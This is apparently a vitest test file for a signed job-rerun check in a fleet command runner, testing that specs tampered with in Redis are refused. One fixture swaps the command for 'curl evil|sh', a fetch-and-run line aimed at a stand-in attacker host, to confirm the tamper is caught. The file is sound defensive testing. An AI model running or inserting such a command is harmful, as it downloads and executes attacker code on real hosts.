import { describe, expect, it } from 'vitest';
import { describeCommand, type RunSpec } from './command-spec.js';
import { RerunRefused } from './errors.js';
import { generateSigningKey, signJob } from './job-signature.js';
import { checkRerun, type RerunChild, type RerunParent } from './rerun-check.js';

const mine = generateSigningKey();
const theirs = generateSigningKey();
const run: RunSpec = {
  command: { kind: 'shell', line: 'systemctl restart app' },
  workdir: null,
  env: {},
  timeoutMs: null,
  connectTimeoutMs: null,
  maxOutputBytes: 1024,
};
const spec = JSON.stringify(run);
const command = describeCommand(run.command);
const hosts = ['web1', 'db1', 'web2'];
const parent: RerunParent = { id: 10, command, spec, childIds: [11, 12, 13] };
const base = { prefix: '{fleet}', deployment: 'prod' };

/** The children as fleet made them, signed by `key` (expired an hour ago: a rerun does not care). */
function children(key = mine, signedSpec = spec, deployment = base.deployment): RerunChild[] {
  return hosts.map((location, rank) => ({
    id: 11 + rank,
    location,
    command,
    signature: signJob(key, { ...base, deployment, jobId: 11 + rank, location, rank, count: 3, spec: signedSpec }, Date.now() - 3600_000),
  }));
}

async function refusal(promise: Promise<unknown>): Promise<string> {
  const error = await promise.then(
    () => null,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(RerunRefused);
  return (error as RerunRefused).message;
}

describe('checkRerun', () => {
  it('gives back the signed spec when every failed child is as this key signed it, expired or not', async () => {
    const [, db1] = children();
    await expect(checkRerun(parent, [db1!], mine, base)).resolves.toEqual(run);
  });

  it('refuses a swapped spec, naming the child whose signature no longer holds', async () => {
    const swapped = { ...parent, spec: spec.replace('systemctl restart app', 'curl evil|sh') };
    expect(await refusal(checkRerun(swapped, children().slice(1, 2), mine, base))).toBe(
      "refused to rerun job 10: host db1's child 12 is not signed by your key (its spec or host was changed in Redis)",
    );
  });

  it('refuses a child pointed at another host, one moved under another rank, or a count changed', async () => {
    const [web1, db1] = children();
    expect(await refusal(checkRerun(parent, [{ ...db1!, location: 'evil' }], mine, base))).toContain(
      "host evil's child 12 is not signed by your key",
    );
    // web1's valid signature copied onto db1's child.
    expect(await refusal(checkRerun(parent, [{ ...db1!, signature: web1!.signature }], mine, base))).toContain('child 12 is not signed');
    expect(await refusal(checkRerun({ ...parent, childIds: [11, 12, 13, 14] }, [db1!], mine, base))).toContain('child 12 is not signed');
    expect(await refusal(checkRerun({ ...parent, childIds: [11, 13] }, [db1!], mine, base))).toContain(
      "host db1's child 12 is not one of its children",
    );
  });

  it('refuses jobs another key signed, even one an agent trusts', async () => {
    const [, db1] = children(theirs);
    expect(await refusal(checkRerun(parent, [db1!], mine, base))).toBe(
      `refused to rerun job 10: host db1's child 12 is signed by key ${theirs.id}, not by yours (${mine.id}); rerun only what you started`,
    );
  });

  it('refuses a job this key signed for another deployment (copied from another Redis)', async () => {
    const [, db1] = children(mine, spec, 'staging');
    expect(await refusal(checkRerun(parent, [db1!], mine, base))).toBe(
      "refused to rerun job 10: host db1's child 12 was signed for deployment staging, not this one (prod): it was copied from another Redis",
    );
  });

  it('refuses a missing or malformed signature, and a spec that is not one', async () => {
    const [, db1] = children();
    expect(await refusal(checkRerun(parent, [{ ...db1!, signature: null }], mine, base))).toContain('is not signed by your key');
    expect(await refusal(checkRerun(parent, [{ ...db1!, signature: '{' }], mine, base))).toContain('is not signed by your key');
    expect(await refusal(checkRerun({ ...parent, spec: null }, [db1!], mine, base))).toContain('has no command on record');
    const [, notASpec] = children(mine, '"text"');
    expect(await refusal(checkRerun({ ...parent, spec: '"text"' }, [notASpec!], mine, base))).toContain('is not a run spec');
  });

  it('refuses a command field that does not show the signed command, on the parent or a child', async () => {
    const [, db1] = children();
    expect(await refusal(checkRerun({ ...parent, command: 'uptime' }, [db1!], mine, base))).toBe(
      'refused to rerun job 10: its command field ("uptime") is not the command it was signed with (it was changed in Redis)',
    );
    expect(await refusal(checkRerun(parent, [{ ...db1!, command: 'uptime' }], mine, base))).toContain(
      `host db1's child 12 shows the command "uptime", not the one it was signed with`,
    );
  });
});
